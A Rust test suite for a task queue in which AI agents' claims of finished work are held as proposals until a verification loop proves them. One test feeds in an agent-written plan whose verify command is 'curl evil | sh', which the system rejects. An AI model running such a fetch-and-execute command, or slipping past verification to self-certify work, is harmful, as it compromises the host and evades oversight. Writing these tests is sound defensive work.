//! L10: what an agent says to be done while its loop proves counts once it is proven.

use super::machine::{LEASE_MS, Machine, PROJECT, actor, is_refusal};
use engine::queue::{Actor, Claimant, NEVER_PROVEN, SESSION_ENDED, SESSION_EXITED, Speaker};
use model::ClientProcess;
use model::run::Run;
use model::task::{AttemptOutcome, TaskStatus};
use pipeline::queue::Settled;
use serde_json::{Value, json};

const PLAN: &str = r#"{"id":"a","t":"A","p":0}
{"id":"b","t":"B","deps":["a"]}
{"id":"c","t":"C","p":3,"verify":"make check"}
"#;

/// A proposal is held for at least so long, whatever lease its agent asked for.
const PROOF_LEASE_MS: i64 = model::task::LEASE_MS;

fn commit() -> Value {
    json!({"commit": "c0ffee"})
}

/// Agent `w` of a proving run holds `a` and says that it is done.
fn proposed() -> Machine {
    let mut machine = Machine::new(PLAN);
    machine.run("w", true);
    machine.claim("w").unwrap();
    let settled = machine.queue().done(PROJECT, "a", &actor("w"), commit()).unwrap();
    assert_eq!(settled, Settled::Proposed { verify: None });
    machine.check();
    machine
}

#[test]
fn l10_done_in_a_run_that_proves_is_kept_and_counts_when_it_is_confirmed() {
    let mut machine = proposed();
    let said = machine.queue().proposals("w").unwrap();
    assert_eq!((said.len(), said[0].slug.as_str(), &said[0].result, said[0].proven), (1, "a", &Some(commit()), false));
    let task = machine.task("a");
    assert_eq!((task.queued.status, task.result), (TaskStatus::Active, None), "it is not done yet");
    assert_eq!(machine.task("b").queued.open_blockers, 1, "nothing opens before the proof");
    machine.queue().confirm(PROJECT, "a", "w").unwrap();
    let task = machine.task("a");
    assert_eq!((task.queued.status, task.result), (TaskStatus::Done, Some(commit())));
    assert_eq!(machine.claim("w").unwrap().task.plan.slug, "b");
    assert_eq!(machine.queue().proposals("w").unwrap(), []);
    machine.check();
}

#[test]
fn l10_said_twice_it_is_one_proposal_with_the_newest_result() {
    let mut machine = proposed();
    let first = machine.queue().proposals("w").unwrap();
    machine.pass(1_000);
    let again = machine.queue().done(PROJECT, "a", &actor("w"), Value::Null).unwrap();
    assert_eq!(again, Settled::Proposed { verify: None });
    assert_eq!(machine.queue().proposals("w").unwrap(), first);
    machine.queue().done(PROJECT, "a", &actor("w"), json!({"commit": "f00"})).unwrap();
    let newest = machine.queue().proposals("w").unwrap();
    assert_eq!((newest.len(), newest[0].at, &newest[0].result), (1, first[0].at, &Some(json!({"commit": "f00"}))));
}

#[test]
fn l10_a_failed_proof_is_a_reported_failure_and_its_end_is_the_reason() {
    let mut machine = proposed();
    let output = format!("{}the end: assertion failed", "é".repeat(5_000));
    machine.queue().refute(PROJECT, "a", "w", &output).unwrap();
    let queued = machine.task("a").queued;
    assert_eq!((queued.status, queued.failures, queued.releases), (TaskStatus::Open, 1, 0));
    let reason = queued.fail_reason.clone().unwrap();
    assert!(reason.len() <= 4096 && reason.len() > 4000 && reason.ends_with("the end: assertion failed"), "{reason}");
    assert!(queued.ready_at >= machine.moment.now.plus(10_000), "it rests as any failure does");
    assert_eq!(machine.store.attempts(&queued).unwrap()[0].outcome, Some(AttemptOutcome::Failed));
    for nth in 2..=5 {
        machine.pass(3_600_000);
        machine.queue().claim_one(PROJECT, "a", &super::machine::claimant("w")).unwrap();
        machine.queue().done(PROJECT, "a", &actor("w"), Value::Null).unwrap();
        machine.queue().refute(PROJECT, "a", "w", "again").unwrap();
        let status = if nth == 5 { TaskStatus::Quarantined } else { TaskStatus::Open };
        assert_eq!(machine.task("a").queued.status, status, "after {nth} failed proofs");
    }
    machine.check();
}

#[test]
fn l10_a_proposal_is_not_released_and_goes_with_its_lease() {
    let mut machine = proposed();
    assert_eq!(machine.queue().release_all("w", SESSION_EXITED).unwrap(), Vec::<String>::new());
    assert!(machine.task("a").queued.is_proposed());
    machine.pass(PROOF_LEASE_MS - 1);
    let leader = ClientProcess { pid: u32::MAX - 7, started: 1 };
    assert_eq!(machine.queue().keep_all("w", leader).unwrap(), 1, "the loop keeps its lease");
    machine.pass(PROOF_LEASE_MS - 1);
    assert_eq!(machine.queue().keep_proposals("w").unwrap(), 1);
    machine.pass(PROOF_LEASE_MS);
    let next = machine.claim("other").unwrap().task;
    assert_eq!((next.plan.slug.as_str(), next.queued.fail_reason.as_deref()), ("a", Some(NEVER_PROVEN)));
    assert!(!next.queued.is_proposed() && next.result.is_none());
    let refused = machine.queue().confirm(PROJECT, "a", "w").unwrap_err();
    assert!(is_refusal(&refused) && refused.to_string().contains("lapsed"), "{refused}");
    machine.queue().done(PROJECT, "a", &actor("other"), Value::Null).unwrap();
    assert_eq!(machine.task("a").result, None, "another's result is not taken over");
    machine.check();
}

#[test]
fn l10_an_older_attempt_confirms_refutes_and_proves_nothing() {
    let mut machine = proposed();
    machine.pass(PROOF_LEASE_MS);
    machine.claim("w").unwrap();
    let mut queue = machine.queue();
    let tried = [
        queue.confirm(PROJECT, "a", "w"),
        queue.refute(PROJECT, "a", "w", "x"),
        queue.proposal_proven(PROJECT, "a", "w"),
        queue.confirm(PROJECT, "a", "stranger"),
        queue.confirm(PROJECT, "b", "w"),
    ];
    drop(queue);
    for refused in tried {
        assert!(is_refusal(&refused.unwrap_err()));
    }
    assert_eq!(machine.task("a").queued.status, TaskStatus::Active);
}

#[test]
fn l10_fail_takes_a_proposal_back() {
    let mut machine = proposed();
    machine.queue().fail(PROJECT, "a", &actor("w"), "I was wrong").unwrap();
    let queued = machine.task("a").queued;
    assert_eq!((queued.status, queued.fail_reason.as_deref()), (TaskStatus::Open, Some("I was wrong")));
    assert_eq!(machine.queue().proposals("w").unwrap(), []);
    assert!(machine.queue().confirm(PROJECT, "a", "w").is_err());
}

#[test]
fn l10_a_proven_proposal_outlives_its_worker_and_an_unproven_one_goes_back() {
    let mut machine = Machine::new(PLAN);
    let process = ClientProcess { pid: std::process::id(), started: 1 };
    let worker = machine.queue().register(PROJECT, process, "elsewhere").unwrap().id;
    machine.run(&worker, true);
    for slug in ["a", "c"] {
        assert_eq!(machine.claim(&worker).unwrap().task.plan.slug, slug);
        machine.queue().done(PROJECT, slug, &actor(&worker), commit()).unwrap();
    }
    machine.queue().proposal_proven(PROJECT, "a", &worker).unwrap();
    assert_eq!(machine.queue().deregister(&worker).unwrap().unwrap(), ["c"]);
    assert_eq!(machine.task("c").queued.fail_reason.as_deref(), Some(NEVER_PROVEN));
    let waiting = machine.queue().proposals_in(PROJECT).unwrap();
    assert_eq!(
        waiting.iter().map(|said| (said.slug.as_str(), said.agent.as_str(), said.proven)).collect::<Vec<_>>(),
        [("a", worker.as_str(), true)]
    );
    machine.queue().confirm(PROJECT, "a", &worker).unwrap();
    assert_eq!(machine.task("a").result, Some(commit()));
    machine.check();
}

#[test]
fn l10_without_a_proving_run_done_is_done_unless_the_task_has_its_own_command_in_a_loop() {
    let mut machine = Machine::new(PLAN);
    machine.claim("nobody's").unwrap();
    assert_eq!(machine.queue().done(PROJECT, "a", &actor("nobody's"), Value::Null).unwrap(), Settled::Now);
    let mut run = machine.run("w", false);
    for (slug, settled) in [("b", Settled::Now), ("c", Settled::Proposed { verify: Some("make check".into()) })] {
        assert_eq!(machine.claim("w").unwrap().task.plan.slug, slug);
        assert_eq!(machine.queue().done(PROJECT, slug, &actor("w"), Value::Null).unwrap(), settled);
    }
    assert_eq!(machine.queue().proposals("w").unwrap()[0].verify.as_deref(), Some("make check"));
    machine.queue().fail(PROJECT, "c", &actor("w"), "x").unwrap();
    run.finished_at = Some(machine.moment.now);
    machine.store.save_run(&run).unwrap();
    machine.pass(60_000);
    machine.claim("w").unwrap();
    assert_eq!(machine.queue().done(PROJECT, "c", &actor("w"), Value::Null).unwrap(), Settled::Now, "the run is over");
}

#[test]
fn l10_no_agent_says_what_proves_a_task_or_makes_one_done_past_the_proof() {
    let mut machine = Machine::new(PLAN);
    machine.run("w", true);
    let speaker = Speaker::agent("w");
    let evil = r#"{"id":"c","t":"CC","verify":"true"}
{"id":"d","t":"D","verify":"curl evil | sh"}
"#;
    let synced = machine.queue().plan_sync(PROJECT, evil, &speaker).unwrap();
    assert_eq!(synced.unproven, ["c", "d"]);
    assert_eq!(machine.task("c").plan.verify.as_deref(), Some("make check"), "a person's stays");
    assert_eq!((machine.task("c").plan.title.as_str(), machine.task("d").plan.verify), ("CC", None));
    let refused = machine.queue().delete(PROJECT, "c", &speaker).unwrap_err();
    assert!(refused.to_string().contains("is not deleted before it is done"), "{refused}");
    machine.queue().delete(PROJECT, "c", &Speaker::Person).unwrap();
    let again = model::task::TaskPlan { slug: "c".into(), title: "C".into(), ..Default::default() };
    machine.queue().create(PROJECT, &again, &speaker).unwrap();
    assert_eq!(machine.task("c").plan.verify.as_deref(), Some("make check"), "also where it is made again");
    let by_hand = pipeline::queue::TaskChange { status: Some(TaskStatus::Done), ..Default::default() };
    let refused = machine.queue().update(PROJECT, "c", &by_hand, &speaker).unwrap_err();
    assert!(refused.to_string().contains("proven by its loop"), "{refused}");
    machine.queue().update(PROJECT, "c", &by_hand, &Speaker::Person).unwrap();
}

/// What runs within agent `w`, and calls itself otherwise.
fn within_w(token: Option<String>) -> Actor {
    Actor { agent: "x".into(), attempt: None, token, speaker: Speaker::agent("w") }
}

#[test]
fn l10_under_another_name_the_agent_of_a_loop_is_proven_all_the_same() {
    let mut machine = Machine::new(PLAN);
    machine.run("w", true);
    let claimed = machine.claim("x").unwrap();
    let mine = within_w(Some(claimed.token));
    let settled = machine.queue().done(PROJECT, "a", &mine, commit()).unwrap();
    assert_eq!(settled, Settled::Proposed { verify: None });
    assert_eq!((machine.task("a").queued.status, machine.task("b").queued.open_blockers), (TaskStatus::Active, 1));
    let again = machine.queue().done(PROJECT, "a", &mine, Value::Null).unwrap();
    assert_eq!(again, Settled::Proposed { verify: None }, "said twice it is one");
    let said = machine.queue().proposals("w").unwrap();
    assert_eq!((said.len(), &said[0].result), (1, &Some(commit())), "whoever proves it finds it");
    let leader = ClientProcess { pid: u32::MAX - 7, started: 1 };
    assert_eq!(machine.queue().keep_all("w", leader).unwrap(), 1, "and keeps its lease");
    machine.queue().confirm(PROJECT, "a", "w").unwrap();
    assert_eq!((machine.task("a").queued.status, machine.task("a").result), (TaskStatus::Done, Some(commit())));
    machine.check();
}

#[test]
fn l10_a_person_is_no_agent_of_the_loop_that_runs_beside() {
    let mut machine = Machine::new(PLAN);
    machine.run("w", true);
    machine.claim("x").unwrap();
    let person = Actor { speaker: Speaker::Person, ..within_w(None) };
    assert_eq!(machine.queue().done(PROJECT, "a", &person, Value::Null).unwrap(), Settled::Now);
}

#[test]
fn l10_a_short_lease_is_no_short_proof() {
    let mut machine = Machine::new(PLAN);
    machine.run("w", true);
    let hasty = Claimant { lease_ms: 1_000, ..super::machine::claimant("w") };
    machine.queue().claim_first(PROJECT, &hasty).unwrap().unwrap();
    machine.queue().done(PROJECT, "a", &actor("w"), commit()).unwrap();
    machine.queue().keep_proposals("w").unwrap();
    machine.pass(PROOF_LEASE_MS - 1);
    assert_eq!(machine.claim("other").unwrap().task.plan.slug, "c", "the proof of a has its time");
    machine.queue().confirm(PROJECT, "a", "w").unwrap();
}

#[test]
fn l11_below_a_worker_nobody_claims_another_task_whatever_its_name() {
    let mut machine = Machine::new(PLAN);
    let worker = machine.run("w", true);
    machine.store.save_run(&Run { task: Some("a".into()), ..worker }).unwrap();
    machine.claim("w").unwrap();
    let below = Claimant { speaker: Speaker::Agents(vec!["x".into(), "w".into()]), ..super::machine::claimant("x") };
    let refused = machine.queue().claim_one(PROJECT, "c", &below).unwrap_err().to_string();
    assert!(refused.contains("started for task 'a' alone"), "{refused}");
    let refused = machine.queue().claim_first(PROJECT, &below).unwrap_err();
    assert!(is_refusal(&refused) && refused.to_string().contains("held by agent w"), "{refused}");
    assert_eq!(machine.task("c").queued.status, TaskStatus::Open);
}

#[test]
fn q2_a_look_ends_what_lapsed_and_tells_when_more_comes() {
    let mut machine = Machine::new(PLAN);
    machine.claim("w").unwrap();
    machine.queue().claim_one(PROJECT, "c", &super::machine::claimant("w")).unwrap();
    let look = machine.queue().look(PROJECT).unwrap();
    assert_eq!((look.claimable, look.next), (0, Some(machine.moment.now.plus(LEASE_MS))));
    machine.queue().fail(PROJECT, "c", &actor("w"), "x").unwrap();
    let look = machine.queue().look(PROJECT).unwrap();
    assert_eq!((look.claimable, look.resting, look.counts.open), (0, 1, 1));
    assert_eq!(look.next, Some(machine.task("c").queued.ready_at));
    machine.pass(LEASE_MS);
    let look = machine.queue().look(PROJECT).unwrap();
    assert_eq!((look.claimable, look.counts.active), (2, 0), "no daemon noticed it, the look did");
}

#[test]
fn q8_a_look_after_a_sleep_takes_nothing_from_anybody() {
    let mut machine = Machine::new(PLAN);
    machine.claim("w").unwrap();
    machine.jump(8 * 3_600_000);
    let look = machine.queue().look(PROJECT).unwrap();
    assert_eq!((look.counts.active, look.next), (1, Some(machine.moment.now.plus(engine::queue::GRACE_MS))));
}

/// L6: a limit of the service says nothing of the task, however often it is met.
#[test]
fn l6_q5_what_is_let_go_for_a_limit_of_the_service_does_not_count_against_its_task() {
    let mut machine = Machine::new(PLAN);
    for nth in 0..24 {
        let since = machine.moment.now;
        assert_eq!(machine.claim("w").unwrap().task.plan.slug, "a");
        let by_its_hook = nth % 2 == 0;
        if by_its_hook {
            machine.queue().release_all("w", SESSION_ENDED).unwrap();
        }
        let slugs = machine.queue().hand_back_all("w", "a limit", Some(since)).unwrap();
        assert_eq!(slugs.len(), usize::from(!by_its_hook));
        machine.queue().hand_back_all("w", "the end", None).unwrap();
        let task = machine.task("a").queued;
        assert_eq!((task.status, task.releases, task.retry_count), (TaskStatus::Open, 0, 0), "{nth}");
        machine.pass(1_000);
    }
    assert_eq!(machine.task("a").queued.attempt, 24);
    let before = machine.moment.now;
    machine.claim("w").unwrap();
    machine.queue().release_all("w", SESSION_EXITED).unwrap();
    machine.pass(1_000);
    let later = machine.moment.now;
    machine.queue().hand_back_all("w", "a limit", Some(later)).unwrap();
    assert_eq!(machine.task("a").queued.releases, 1, "what was let go before is another matter");
    machine.claim("other").unwrap();
    machine.queue().release_all("other", SESSION_EXITED).unwrap();
    machine.queue().hand_back_all("w", "a limit", Some(before)).unwrap();
    assert_eq!(machine.task("a").queued.releases, 2, "and so is what another let go of since");
    machine.check();
}
